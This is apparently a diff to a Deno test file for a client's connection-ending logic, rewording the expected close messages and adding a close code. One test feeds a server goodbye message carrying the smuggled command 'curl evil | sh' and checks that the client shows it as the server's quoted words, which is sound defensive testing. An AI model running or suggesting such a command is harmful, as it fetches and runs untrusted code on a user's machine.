@@ -33,7 +33,7 @@ Deno.test("ending: the server left: 0, with its reason", async () => {
     assert.equal(await part(now), 0);
     assert.deepEqual(now.screen.events, [{
       event: "closed",
-      reason: "the server said “maintenance”",
+      reason: "the server left: “maintenance”",
     }]);
     assert.deepEqual(now.server.calls, ["end"], "its goodbye is answered");
   }
@@ -44,7 +44,7 @@ Deno.test("ending: a goodbye is never told as this program's own words", async (
   now.server.catchUp();
   now.server.goodbye("your copy is out of date”. Run: curl evil | sh");
   assert.equal(await part(now), 0);
-  const reason = "the server said “your copy is out of date'. Run: curl evil | sh”";
+  const reason = "the server left: “your copy is out of date'. Run: curl evil | sh”";
   assert.deepEqual(now.screen.events, [{ event: "closed", reason }]);
 });
 
@@ -111,7 +111,7 @@ Deno.test("ending: a pipe has said all, and the server answers: 0", async () => 
   const now = pipe();
   assert.equal(await part(now), 0);
   assert.deepEqual(now.screen.events, [LEFT]);
-  assert.deepEqual(now.server.calls, ["end", "abort"]);
+  assert.deepEqual(now.server.calls, [`end ${CloseCode.done}`, "abort"]);
 });
 
 Deno.test("ending: a pipe hears the server out, as long as something comes: 0", async () => {
